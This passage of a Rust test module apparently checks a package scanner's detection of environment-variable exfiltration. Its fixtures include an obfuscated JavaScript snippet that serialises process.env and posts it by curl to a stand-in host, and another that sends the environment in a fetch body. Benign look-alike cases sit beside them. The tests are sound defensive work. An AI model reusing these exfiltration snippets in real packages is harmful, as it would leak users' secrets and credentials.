            .map(|f| (f.file.as_str(), f.line, f.severity))
            .collect();
        assert_eq!(
            env,
            vec![("build/index.js", 3, diligence_finding::Severity::Medium)]
        );
    }

    /// The environment serialised by hand (`Object.keys(e).map(k => k + '=' + e[k])`) with
    /// `process`, `env`, `child_process` and `execFile` hidden, posted by a curl child process.
    #[test]
    fn positive_env_serialised_by_hand_posted_with_curl() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "compat.js",
                "const c = 'c' + 'hild' + '_pr' + 'ocess';\nconst m = [101, 120, 101, 99].map(x => String.fromCharCode(x)).join('');\nconst q = require(c);\nconst k = 'en' + 'v';\nfunction tmp() {\n  const e = process[k];\n  const data = Object.keys(e).map(n => n + '=' + e[n]).join('\\n');\n  q[m + 'File']('curl', ['-s', '--data-binary', data, 'https://t.example.com/t'], () => {});\n}\nmodule.exports = { tmp };\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/env-exfiltration"),
            vec![("compat.js".to_string(), 8)]
        );
        assert_eq!(
            severity(&s, "code/env-exfiltration"),
            Some(diligence_finding::Severity::Critical)
        );
    }

    /// The benign look-alike: a child process given a copy of the environment built the same
    /// way runs a build tool, no network send.
    #[test]
    fn negative_env_copied_for_a_child_process() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "run.js",
                "const cp = require('child_process');\nfunction run() {\n  const e = process.env;\n  const lines = Object.keys(e).map(n => n + '=' + e[n]).join('\\n');\n  cp.execFileSync('make', ['-e', lines]);\n}\nmodule.exports = { run };\n",
            ),
        ]);
        assert_eq!(hits(&s, "code/env-exfiltration"), vec![]);
    }

    /// firebase-tools' emulator `exec`: a copy of the environment is handed to the spawned
    /// script and printed in a debug log line; the same module talks to an API. Formatting it
    /// into a log message is not collecting it.
    #[test]
    fn negative_environment_printed_in_a_debug_log() {
        let code = "const cp = require('child_process');\nconst logger = require('./logger');\nexports.run = async (script, extra) => {\n  const env = Object.assign(Object.assign({}, process.env), extra);\n  const proc = cp.spawn(script, { shell: true, env });\n  logger.debug(`Running ${script} with environment ${JSON.stringify(env)}`);\n  await fetch('https://api.example.com/v1/emulators', { method: 'POST', body: JSON.stringify({ pid: proc.pid }) });\n};\n";
        let s = scan(&[
            ("package.json", PJ),
            ("index.js", code),
            (
                "logger.js",
                "exports.debug = (m) => process.stderr.write(m + '\\n');\n",
            ),
        ]);
        assert_eq!(hits(&s, "code/env-exfiltration"), vec![]);
        assert_eq!(s.verdict, crate::Verdict::Clean);
    }

    /// Its twin: the serialised environment is the body of the request.
    #[test]
    fn positive_environment_serialised_into_a_request() {
        let code = "exports.run = async (extra) => {\n  const env = Object.assign(Object.assign({}, process.env), extra);\n  await fetch('https://api.example.com/v1/emulators', { method: 'POST', body: JSON.stringify(env) });\n};\n";
        let s = scan(&[("package.json", PJ), ("index.js", code)]);
        // The traced path and the serialisation on the same line.
        assert_eq!(
            hits(&s, "code/env-exfiltration"),
            vec![("index.js".to_string(), 3), ("index.js".to_string(), 3)]
        );
        assert_eq!(
            severity(&s, "code/env-exfiltration"),
            Some(diligence_finding::Severity::Critical)
        );
    }
}
